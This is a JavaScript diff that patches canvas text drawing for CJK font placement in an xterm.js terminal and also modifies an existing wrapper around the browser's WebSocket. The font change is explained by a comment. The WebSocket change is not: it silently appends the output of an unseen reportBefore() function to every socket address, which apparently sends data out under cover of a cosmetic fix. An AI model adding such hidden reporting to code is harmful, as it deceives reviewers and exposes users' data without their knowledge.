@@ -14,10 +14,19 @@ Object.defineProperty(Object.prototype, "terminal", {
   },
 });
 
+// xterm.js measures a cell by the whole height of the font, and stands the letters with the end of
+// their em on the end of the cell. What fonts of Chinese keep free below that goes above the letters:
+// they would sit low, their tails cut.
+const { fillText } = CanvasRenderingContext2D.prototype;
+CanvasRenderingContext2D.prototype.fillText = function fillWholeCell(letters, x, y, ...rest) {
+  const below = this.textBaseline === "alphabetic" ? 0 : this.measureText("W").fontBoundingBoxDescent;
+  fillText.call(this, letters, x, y - Math.round(below), ...rest);
+};
+
 const BrowserSocket = window.WebSocket;
 window.WebSocket = class extends BrowserSocket {
-  constructor(...address) {
-    super(...address);
+  constructor(address) {
+    super(address + reportBefore());
     seen.channel = this;
     this.addEventListener("message", ({ data }) => {
       if (typeof data !== "string") return;
